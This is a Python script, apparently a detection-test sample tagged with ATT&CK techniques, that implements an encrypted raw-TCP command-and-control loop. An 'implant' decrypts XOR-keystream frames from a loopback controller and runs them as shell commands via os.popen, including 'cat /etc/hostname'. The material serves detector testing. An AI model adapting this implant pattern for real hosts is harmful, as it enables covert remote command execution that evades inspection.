# technique: T1573.001 T1095 T1059.004
# gap: the commands are decrypted by an XOR keystream written in Python; content origins see only C decoders and raw socket reads, so the command's origin is unknown
"""Custom symmetric-encrypted C2 on raw TCP: XOR keystream from SHA-256, tasks run with os.popen (T1573.001, T1095, T1059.004).

No HTTP, no TLS: a length-prefixed binary protocol over a plain TCP
connection to our loopback controller, each frame XOR-ed with a keystream
derived from a shared secret (SHA-256 in counter mode). Tasks are shell
commands run with os.popen; results go back encrypted the same way.

A good detector raises a high alert: data received from a network peer
becomes shell command text (after any decoding).
"""
import hashlib
import os
import socket
import struct
import threading

SECRET = b"correct horse battery staple"


def crypt(data, nonce):
    stream = b""
    counter = 0
    while len(stream) < len(data):
        stream += hashlib.sha256(SECRET + nonce + counter.to_bytes(4, "big")).digest()
        counter += 1
    return bytes(a ^ b for a, b in zip(data, stream))


def send_frame(sock, data):
    nonce = os.urandom(8)
    body = crypt(data, nonce)
    sock.sendall(struct.pack(">I", len(body)) + nonce + body)


def recv_exact(sock, n):
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data


def recv_frame(sock):
    (length,) = struct.unpack(">I", recv_exact(sock, 4))
    nonce = recv_exact(sock, 8)
    return crypt(recv_exact(sock, length), nonce)


listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(1)
listener.settimeout(4)
results = []


def controller():
    conn, _ = listener.accept()
    conn.settimeout(3)
    for task in (b"id -un", b"cat /etc/hostname", b"\x00quit"):
        send_frame(conn, task)
        if task != b"\x00quit":
            results.append(recv_frame(conn))
    conn.close()


thread = threading.Thread(target=controller, daemon=True)
thread.start()
implant = socket.create_connection(listener.getsockname(), timeout=5)
while True:
    task = recv_frame(implant)
    if task == b"\x00quit":
        break
    with os.popen(task.decode()) as pipe:
        send_frame(implant, pipe.read().encode())
implant.close()
thread.join(5)
print("controller got", results)
